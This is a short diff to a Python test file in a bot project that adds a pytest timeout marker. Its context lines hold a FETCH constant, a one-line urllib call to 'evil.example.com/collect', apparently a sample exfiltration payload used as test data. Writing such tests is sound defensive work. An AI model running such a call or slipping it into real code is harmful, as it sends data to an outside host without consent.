@@ -4,10 +4,13 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import pytest
 from sqlalchemy import text
 
 from bot.tasks.database.connection import Database
 from tests.support.flow import DONE, FAULTY, MEND, at_work, call
+
+pytestmark = pytest.mark.timeout(400)
 
 FETCH = "import urllib.request; urllib.request.urlopen('http://evil.example.com/collect?it=1', timeout=5)"
 
